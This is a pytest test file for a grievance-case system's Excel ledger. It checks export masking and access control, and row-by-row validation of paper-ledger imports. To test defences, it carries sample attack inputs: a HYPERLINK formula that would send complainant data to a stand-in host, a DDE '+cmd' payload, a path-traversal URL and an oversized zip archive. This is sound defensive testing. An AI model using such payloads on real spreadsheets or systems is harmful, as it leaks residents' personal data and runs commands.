"""The ledger (台账): Excel export of a filtered case list, masked for the viewer; batch import
of a paper ledger, all rows or none."""

from __future__ import annotations

import io
from datetime import datetime
from urllib.parse import urlencode

import pytest
import time_machine
from django.utils import timezone
from django.utils.translation import gettext as _
from openpyxl import Workbook, load_workbook

from grievances.ledger.imports import import_columns
from grievances.ledger.tasks import export_ledger
from petitions.deadlines import deadline_add
from petitions.models import Petition, PetitionEvent
from stations.models import Membership
from stations.services import membership_grant
from tests.clock import at
from tests.factories import UserFactory
from tests.grievances.test_stats import load_county_year

pytestmark = pytest.mark.django_db

Verb = PetitionEvent.Verb


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def centre_clerk(world):
    """A clerk of the 东镇 centre: sees the township's cases, but not the village desks' complainants."""
    user = UserFactory(username="centre_clerk")
    membership_grant(user=user, unit=world.units["east_centre"], role=Membership.Role.CLERK)
    return user


def read_xlsx(content: bytes) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


def streamed(response) -> bytes:
    return b"".join(response.streaming_content)


# --- Export ---------------------------------------------------------------------------------


def test_export_has_the_filtered_rows_masked_for_a_clerk(
    client, world, categories, centre_clerk, django_assert_max_num_queries
):
    cases = load_county_year(world, categories)
    client.force_login(centre_clerk)
    query = {"category": "infrastructure", "region": world.region("东镇").code}
    # The case list offers the export of exactly this query.
    page = client.get("/staff/cases/", query).content.decode()
    assert f'href="/staff/export/?{urlencode(query).replace("&", "&amp;")}"' in page

    with django_assert_max_num_queries(8):
        response = client.get("/staff/export/", query)
        content = streamed(response)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = read_xlsx(content)
    header, body = rows[0], rows[1:]
    east = {world.region("东一村").code, world.region("东二村").code}
    expected = {
        case.tracking_number: case
        for case in cases
        if case.category_id == categories["infrastructure"].pk and case.region_code in east
    }
    assert {row[0] for row in body} == set(expected)
    assert len(header) == 20
    name, phone = 10, 11  # the complainant and the phone columns
    for row in body:
        case = expected[row[0]]
        if case.intake_unit_id == world.units["east_centre"].pk:
            # Taken in at the clerk's own desk: shown in full.
            assert (row[name], row[phone]) == ("字红梅", "13800138000")
        else:
            # Taken in at a village desk or the county: masked.
            assert (row[name], row[phone]) == ("字**", "138****8000")
    assert any(row[name] == "字**" for row in body) and any(row[name] == "字红梅" for row in body)


def test_export_shows_only_cases_in_view(client, world, categories):
    load_county_year(world, categories)
    client.force_login(world.users["other_clerk"])  # the 西一村 desk
    body = read_xlsx(streamed(client.get("/staff/export/")))[1:]
    desk_cases = Petition.objects.filter(intake_unit=world.units["west1_desk"]).count()
    assert len(body) == desk_cases > 0
    client.force_login(world.users["foreign_clerk"])
    assert read_xlsx(streamed(client.get("/staff/export/")))[1:] == []


def test_a_large_export_is_written_by_a_job_for_the_requester_only(client, world, categories, settings):
    load_county_year(world, categories)
    settings.SUQIU_EXPORT_SYNC_MAX_ROWS = 10
    supervisor = world.users["supervisor"]
    client.force_login(supervisor)
    response = client.get("/staff/export/", {"status": "closed"})
    assert response.status_code == 302
    url = response["Location"]
    token = url.rstrip("/").rsplit("/", 1)[1]
    assert client.get(url).status_code == 202  # not written yet: the waiting page

    export_ledger(supervisor.pk, "status=closed", token)  # what the worker runs
    response = client.get(url)
    assert response.status_code == 200
    assert len(read_xlsx(streamed(response))) == 1 + 187

    client.force_login(world.users["handler"])
    assert client.get(url).status_code != 200  # another user cannot open it
    assert client.get("/staff/export/..%2F1/").status_code == 404


# A resident's title that, run as a formula, would send the complainant column (K) away.
FORMULA_TITLE = '=HYPERLINK("http://x/?"&K2,"查看")'


def test_a_formula_typed_by_a_resident_leaves_the_export_as_text(api, client, world, categories):
    submitted = api.post(
        "/api/v1/public/petitions/",
        {
            "county": "990121000000",
            "category": "infrastructure",
            "region": "990121100200",
            "title": FORMULA_TITLE,
            "content": "+1+1 村道雨后塌方，车辆无法通行。",
            "complainant_name": "@SUM(1)",
            "complainant_phone": "13800138000",
        },
        format="json",
    )
    assert submitted.status_code == 201, submitted.content
    client.force_login(world.users["supervisor"])
    response = client.get("/staff/export/")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(streamed(response))).worksheets[0]  # not read-only: cell types
    assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    (row,) = [row for row in sheet.iter_rows(min_row=2) if row[0].value == submitted.json()["tracking_number"]]
    title, content, name = row[8], row[9], row[10]
    assert (title.value, title.data_type) == ("'" + FORMULA_TITLE, "s")
    assert (content.value, content.data_type) == ("'+1+1 村道雨后塌方，车辆无法通行。", "s")
    assert name.value.startswith("'@") and name.data_type == "s"


def test_a_control_character_typed_by_a_resident_does_not_break_the_export(api, client, world, categories):
    fields = {"county": "990121000000", "category": "infrastructure", "region": "990121100200"}
    fields |= {"title": "村道\u0007塌方", "content": "雨后塌方\u001b。", "complainant_name": "字红梅"}
    submitted = api.post("/api/v1/public/petitions/", fields, format="json")
    assert submitted.status_code == 201, submitted.content
    client.force_login(world.users["supervisor"])
    response = client.get("/staff/export/")
    assert response.status_code == 200  # an .xlsx cannot hold a bell or an escape: they are left out
    (row,) = [row for row in read_xlsx(streamed(response)) if row[0] == submitted.json()["tracking_number"]]
    assert (row[8], row[9]) == ("村道塌方", "雨后塌方。")


def test_an_export_with_a_filter_the_list_refuses_is_a_400_naming_it(client, world, categories):
    load_county_year(world, categories)
    client.force_login(world.users["supervisor"])
    query = "created_after=2026-13-45&status=closed"
    assert client.get("/staff/cases/?" + query).status_code == 200  # the list shows the form's error
    response = client.get("/staff/export/?" + query)
    assert response.status_code == 400
    assert "text/html" in response["Content-Type"]
    page = response.content.decode()
    assert "台账未导出" in page and 'data-filter="created_after"' in page and "输入一个有效的日期。" in page
    assert f'href="/staff/cases/?{query.replace("&", "&amp;")}"' in page
    client.cookies["suqiu_language"] = "en"
    page = client.get("/staff/export/?" + query).content.decode()
    assert "The ledger was not exported" in page and "Enter a valid date." in page


# --- Import ---------------------------------------------------------------------------------


def ledger_file(rows: list[list]) -> io.BytesIO:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([header for _field, header in import_columns()])
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    buffer.name = "ledger.xlsx"
    return buffer


def good_row(n: int, world, *, settled: str = "") -> list:
    village = world.region("东一村") if n % 2 else world.region("西一村")
    return [
        village.code,
        ["infrastructure", "土地问题", "Social security"][n % 3],
        ["visit", "来电", "letter"][n % 3],
        f"2025-03-{1 + n % 28:02d}",
        f"纸质台账第{n}件",
        "村民反映的问题，见纸质台账原件。",
        f"村民{n}",
        f"1380013{n:04d}",  # a different complainant each row: no repeat links
        "",
        "否",
        settled,
    ]


def test_one_bad_row_among_100_imports_nothing_and_names_it(client, world, categories):
    rows = [good_row(n, world) for n in range(100)]
    rows[56][1] = "不存在的类别"  # spreadsheet row 58 (the header is row 1)
    client.force_login(world.users["clerk"])
    before = Petition.objects.count()
    response = client.post("/staff/import/", {"action": "preview", "file": ledger_file(rows)})
    assert response.status_code == 400
    errors = response.context["result"].errors
    assert [(error.row, error.field) for error in errors] == [(58, "category")]
    assert 'data-row="58" data-field="category"' in response.content.decode()
    assert Petition.objects.count() == before
    # Nothing is waiting to be confirmed either.
    response = client.post("/staff/import/", {"action": "confirm"})
    assert response.status_code == 302 and Petition.objects.count() == before


def test_every_kind_of_bad_row_is_reported(world, categories):
    from grievances.ledger.imports import ledger_import

    rows = [good_row(n, world) for n in range(6)]
    rows[0][0] = "990122100200"  # a village of another county
    rows[1][2] = "飞鸽传书"
    rows[2][3] = "三月一日"
    rows[3][4] = ""  # no title: the service refuses it
    rows[4][7] = "12345"
    result = ledger_import(
        actor=world.users["clerk"], intake_unit=world.units["east1_desk"], source=ledger_file(rows), dry_run=False
    )
    assert [(error.row, error.field) for error in result.errors] == [
        (2, "region"),
        (3, "channel"),
        (4, "received_on"),
        (5, "title"),
        (6, "complainant_phone"),
    ]
    assert Petition.objects.count() == 0 and result.created == []


def test_a_clean_file_imports_every_row_with_its_events(client, world, categories):
    rows = [good_row(n, world, settled="当场协调修好" if n % 4 == 0 else "") for n in range(20)]
    client.force_login(world.users["clerk"])
    response = client.post("/staff/import/", {"action": "preview", "file": ledger_file(rows)})
    assert response.status_code == 200, response.context["result"].errors
    assert Petition.objects.count() == 0  # the preview keeps nothing
    assert 'id="import-confirm"' in response.content.decode()

    response = client.post("/staff/import/", {"action": "confirm"})
    assert response.status_code == 302
    cases = list(Petition.objects.order_by("id"))
    assert len(cases) == 20
    for n, case in enumerate(cases):
        verbs = list(case.events.order_by("id").values_list("verb", flat=True))
        assert case.intake_unit == world.units["east1_desk"]
        assert case.registered_by == world.users["clerk"]
        assert case.title == f"纸质台账第{n}件"
        # The paper's date is when the case reached the desk; older than the window, with the reason.
        assert timezone.localtime(case.received_at) == at(2025, 3, 1 + n % 28)
        assert case.created_at > case.received_at
        assert case.late_reason == "纸质台账补录"
        assert case.acceptance_due_at > case.received_at
        if n % 4 == 0:
            assert case.status == "closed" and case.settled_on_the_spot
            assert verbs == [Verb.REGISTERED, Verb.SETTLED, Verb.CLOSED]
        else:
            assert case.status == "registered"
            assert verbs == [Verb.REGISTERED]
    # Category by Chinese name, channel by the ledger's word.
    assert cases[1].category.code == "land" and cases[2].category.code == "social_security"
    assert cases[1].channel == "phone"
    assert cases[0].holder_unit == world.units["west_centre"]
    # The stored upload is gone once imported.
    assert client.post("/staff/import/", {"action": "confirm"}).status_code == 302
    assert Petition.objects.count() == 20


def test_a_recent_paper_date_is_received_at_without_a_reason_and_the_deadline_counts_from_it(world, categories):
    from grievances.ledger.imports import ledger_import

    rows = [good_row(n, world) for n in range(3)]
    rows[0][3] = "2026-03-02"  # 2 working days of acceptance left
    rows[1][3] = "2025-11-20"  # older than the 90 days: the ledger's own reason
    rows[2][3] = "2026-03-05"  # today
    with time_machine.travel(at(2026, 3, 5, 10, 0), tick=False):
        result = ledger_import(
            actor=world.users["clerk"], intake_unit=world.units["east1_desk"], source=ledger_file(rows), dry_run=False
        )
    assert result.errors == []
    recent, old, today = sorted(result.created, key=lambda case: case.pk)
    assert recent.received_at == at(2026, 3, 2) and recent.late_reason == ""
    assert recent.created_at == at(2026, 3, 5, 10, 0)
    assert recent.days_registered_late == 3
    # 15 working days from the paper's date, not from the day it was typed in.
    assert recent.acceptance_due_at == deadline_add(at(2026, 3, 2), 15, "working")
    assert old.late_reason == "纸质台账补录"
    assert today.received_at == at(2026, 3, 5) and today.late_reason == ""
    registered = recent.events.get(verb=Verb.REGISTERED)
    assert registered.data["received_at"] == at(2026, 3, 2).isoformat()
    assert not recent.events.filter(verb=Verb.NOTE).exists()


def test_a_paper_date_in_the_future_is_refused_by_row(world, categories):
    from grievances.ledger.imports import ledger_import

    rows = [good_row(n, world) for n in range(2)]
    rows[1][3] = "2026-03-06"
    with time_machine.travel(at(2026, 3, 5, 10, 0), tick=False):
        result = ledger_import(
            actor=world.users["clerk"], intake_unit=world.units["east1_desk"], source=ledger_file(rows), dry_run=False
        )
    assert [(error.row, error.field, error.message) for error in result.errors] == [
        (3, "received_on", "日期不能晚于今天。")
    ]
    assert Petition.objects.count() == 0


def test_export_shows_when_each_case_was_received_and_registered(client, world, categories, register):
    with time_machine.travel(at(2026, 3, 5, 10, 0), tick=False):
        case = register(received_at=at(2026, 3, 2, 9, 30)).petition
    client.force_login(world.users["supervisor"])
    header, row = read_xlsx(streamed(client.get("/staff/export/")))
    assert header[:3] == (_("Tracking number"), _("Received at"), _("Registered at"))
    assert row[0] == case.tracking_number
    assert row[1:3] == (datetime(2026, 3, 2, 9, 30), datetime(2026, 3, 5, 10, 0))


def test_import_template_and_who_may_import(client, world, categories):
    client.force_login(world.users["clerk"])
    response = client.get("/staff/import/template/")
    rows = read_xlsx(streamed(response))
    assert list(rows[0]) == [header for _field, header in import_columns()]
    assert client.get("/staff/import/").status_code == 200
    client.force_login(world.users["observer"])
    assert client.get("/staff/import/").status_code == 404


def test_formulas_in_a_paper_ledger_are_refused_by_row_and_column(client, world, categories):
    rows = [good_row(n, world) for n in range(6)]
    rows[1][4] = '=HYPERLINK("http://x/?"&G3,"查看")'  # a formula (openpyxl stores "=…" as one)
    rows[2][7] = "=13800130002"  # a formula in the phone column
    rows[3][5] = "+cmd|' /C calc'!A0"  # text that Excel would run once typed again
    rows[4][6] = "@SUM(1)"
    rows[5][3] = "=TODAY()"
    client.force_login(world.users["clerk"])
    response = client.post("/staff/import/", {"action": "preview", "file": ledger_file(rows)})
    assert response.status_code == 400
    errors = response.context["result"].errors
    assert [(error.row, error.field) for error in errors] == [
        (3, "title"),
        (4, "complainant_phone"),
        (5, "content"),
        (6, "complainant_name"),
        (7, "received_on"),
    ]
    page = response.content.decode()
    assert "第 3 行“标题”列是公式" in page
    assert "第 5 行“内容”列以“+”开头" in page
    assert Petition.objects.count() == 0


def test_a_dash_for_none_and_signs_inside_the_text_are_imported(world, categories):
    from grievances.ledger.imports import ledger_import

    rows = [good_row(n, world) for n in range(2)]
    rows[0][7] = "-"  # no phone, as paper ledgers write it
    rows[0][10] = "—"  # not settled on the spot
    rows[1][5] = "路面塌陷约 -2 米，=见照片"  # signs inside a text are no formula
    result = ledger_import(
        actor=world.users["clerk"], intake_unit=world.units["east1_desk"], source=ledger_file(rows), dry_run=False
    )
    assert result.errors == [] and len(result.created) == 2
    first, second = sorted(result.created, key=lambda case: case.pk)
    assert first.complainant_phone == "" and first.status == "registered"
    assert second.content == "路面塌陷约 -2 米，=见照片"


def _count_rows_parsed(monkeypatch) -> list[int]:
    """Count the rows openpyxl parses out of a sheet (a wrapper on the library, not on Suqiu)."""
    from openpyxl.worksheet._reader import WorkSheetParser

    counted = [0]
    parse = WorkSheetParser.parse

    def counting(self):
        for row in parse(self):
            counted[0] += 1
            yield row

    monkeypatch.setattr(WorkSheetParser, "parse", counting)
    return counted


def test_a_file_over_the_row_cap_is_refused_without_reading_the_rest(client, world, categories, monkeypatch):
    from grievances.ledger.imports import MAX_IMPORT_ROWS

    row = good_row(1, world)
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append([header for _field, header in import_columns()])
    for _n in range(MAX_IMPORT_ROWS * 10):
        sheet.append(row)
    upload = io.BytesIO()
    workbook.save(upload)
    upload.seek(0)
    upload.name = "ledger.xlsx"
    parsed = _count_rows_parsed(monkeypatch)
    client.force_login(world.users["clerk"])
    response = client.post("/staff/import/", {"action": "preview", "file": upload})
    assert response.status_code == 400
    (error,) = response.context["result"].errors
    assert (error.row, error.field) == (MAX_IMPORT_ROWS + 2, "file")  # the first row over the cap
    assert f"文件超过 {MAX_IMPORT_ROWS} 行" in response.content.decode()
    assert parsed[0] <= MAX_IMPORT_ROWS + 2  # the header and the rows up to the first one over
    assert Petition.objects.count() == 0
    assert 'id="import-confirm"' not in response.content.decode()


def test_a_file_that_unpacks_too_large_is_refused_unread(world, categories, monkeypatch):
    import zipfile

    from grievances.ledger.imports import MAX_IMPORT_UNPACKED_BYTES, ledger_import

    packed = ledger_file([good_row(1, world)])
    with zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/padding.bin", b"\0" * (MAX_IMPORT_UNPACKED_BYTES + 1))
    packed.seek(0)
    parsed = _count_rows_parsed(monkeypatch)
    result = ledger_import(
        actor=world.users["clerk"], intake_unit=world.units["east1_desk"], source=packed, dry_run=False
    )
    assert [(error.row, error.field) for error in result.errors] == [(0, "file")]
    assert parsed[0] == 0 and Petition.objects.count() == 0
